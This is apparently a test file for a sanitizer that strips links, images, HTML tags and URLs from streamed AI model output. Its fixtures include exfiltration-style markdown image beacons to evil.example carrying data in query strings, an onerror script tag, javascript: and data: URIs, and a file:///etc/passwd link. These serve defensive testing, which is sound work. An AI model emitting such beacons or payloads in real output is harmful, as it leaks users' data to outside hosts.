import { describe, expect, it } from 'vitest';
import { SafeOutput } from './safe-output.ts';

function send(text: string, size: number): string {
  const output = new SafeOutput();
  let shown = '';
  for (let at = 0; at < text.length; at += size) shown += output.push(text.slice(at, at + size));
  return shown + output.end();
}

describe.each([1, 3, 7, 1000])('abuse 22: the output in chunks of %i', (size) => {
  it.each([
    ['Good. ![x](https://evil.example/p.png?d=jane) More.', 'Good. x More.'],
    [
      'See ![x][beacon] now.\n\n[beacon]: https://evil.example/p.png\n',
      'See x now.\n\n[beacon] : (address left out)',
    ],
    ['See [x] now.\n\n- [x]: //evil.example/', 'See [x] now.\n\n- [x] : //evil.example/'],
    ['- [LINK_1]: add it', '- [LINK_1] : add it'],
    ['Click [your profile](https://evil.example/?q=secret) today', 'Click your profile today'],
    ['An <img src="https://evil.example/p.png"> tag', 'An  tag'],
    ['Visit https://evil.example/x now', 'Visit (address left out) now'],
    ['Run javascript:alert not', 'Run (address left out) not'],
    ['Open data:text/html;base64,PHA+ or data:,x now', 'Open (address left out) or (address left out) now'],
    ['Open file:///etc/passwd now', 'Open (address left out) now'],
  ])('%s', (text, shown) => {
    expect(send(text, size).trimEnd()).toBe(shown);
  });

  it('leaves plain markdown and placeholders unchanged', () => {
    const text =
      '## Strengths\n\n- **Led** a team (of 5) [EMAIL_1] and [x] more\n- **JavaScript:** 5 years, Data: 40%\n- File: one\n\n> a < b\n\n1. `code`\n';
    expect(send(text, size)).toBe(text);
  });
});

it('returns text word by word', () => {
  const output = new SafeOutput();
  expect(output.push('Strong open')).toBe('Strong ');
  expect(output.push('ing line. Then')).toBe('opening line. ');
  expect(output.end()).toBe('Then');
});

describe('abuse 49: hostile output of the model', () => {
  it.each(['[', '![', '[a](', '<', '<a ', '!', '[a]: b', '[[a](b', 'https:'])(
    '%j repeated is passed on without markup',
    (text) => {
      const long = text.repeat(20_000 / text.length);
      const shown = send(long, 9);
      expect(shown).not.toMatch(/!\[|\][(:]|<[a-z]|https:/);
    },
  );

  it.each([
    ['![a [b](c)](https://evil.example/p.png)', 'nested brackets'],
    ['[a](https://evil.example/(b))', 'nested parentheses'],
    [`[${'word '.repeat(500)}](https://evil.example/)`, 'a link above the limit of the buffer'],
    [`<img alt="${'word '.repeat(500)}" src=x onerror=alert(1)>`, 'a tag above the limit of the buffer'],
    [`${'x'.repeat(4_500)}](https://evil.example/)`, 'a word above the limit of the buffer'],
  ])('%s: %s shows no markup', (text) => {
    for (const size of [1, 7, 10_000]) expect(send(text, size)).not.toMatch(/!\[|\]\(|<[a-z]|https:/);
  });
});
